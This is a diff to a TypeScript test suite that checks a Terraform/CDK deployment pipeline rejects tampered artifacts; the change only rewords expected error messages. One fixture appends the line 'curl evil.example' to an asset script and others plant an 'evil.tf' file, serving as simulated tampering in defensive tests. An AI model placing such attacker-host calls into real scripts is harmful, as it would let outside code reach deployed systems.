@@ -59,7 +59,7 @@ describeWithGit('of what a synth uploads', () => {
     [
       'another configuration',
       (folder) => edit(join(folder, JSON_FILE), '"one"', '"two"'),
-      'shop-staging is not what its hash in golden-path.lock.json says',
+      'shop-staging does not match its hash in golden-path.lock.json',
     ],
     [
       'a key that is there twice, of which only Terraform reads the first',
@@ -69,7 +69,7 @@ describeWithGit('of what a synth uploads', () => {
     [
       'another asset',
       (folder) => appendFileSync(join(folder, STACK, 'assets/Script/0A1B2C/run.sh'), 'curl evil.example\n'),
-      'shop-staging is not what its hash in golden-path.lock.json says',
+      'shop-staging does not match its hash in golden-path.lock.json',
     ],
     [
       'an exception that nobody agreed to',
@@ -93,11 +93,11 @@ describeWithGit('of what a synth uploads', () => {
 
 describeWithGit('what an apply takes', () => {
   test.each<[what: string, artifact: string, change: (folder: string) => void, message: string]>([
-    ['a file beside the JSON', 'golden-path-stacks', (folder) => writeDeep(join(folder, STACK, 'evil.tf')), 'holds files that nothing names'],
+    ['a file beside the JSON', 'golden-path-stacks', (folder) => writeDeep(join(folder, STACK, 'evil.tf')), 'contains unlisted files that Terraform would read'],
     ['another configuration', 'golden-path-stacks', (folder) => appendFileSync(join(folder, JSON_FILE), '\n'), 'cdk.tf.json: FAILED'],
     ['another plan', 'golden-path-apply-shop-staging', (folder) => appendFileSync(join(folder, 'plan.tfplan'), 'x'), 'plan.tfplan: FAILED'],
     ['other providers', 'golden-path-apply-shop-staging', (folder) => appendFileSync(join(folder, '.terraform.lock.hcl'), '#'), 'hcl: FAILED'],
-    ['a file beside the plan', 'golden-path-apply-shop-staging', (folder) => writeDeep(join(folder, 'evil.tf')), 'holds files that nothing names'],
+    ['a file beside the plan', 'golden-path-apply-shop-staging', (folder) => writeDeep(join(folder, 'evil.tf')), 'contains unlisted files that Terraform would read'],
   ])('is not %s, even where that came after everything was verified', async (_, artifact, change, message) => {
     await team.commit({ 'shop-staging': { value: 'one' } });
     team.world.approve = () => change(team.world.artifacts.get(artifact)!);
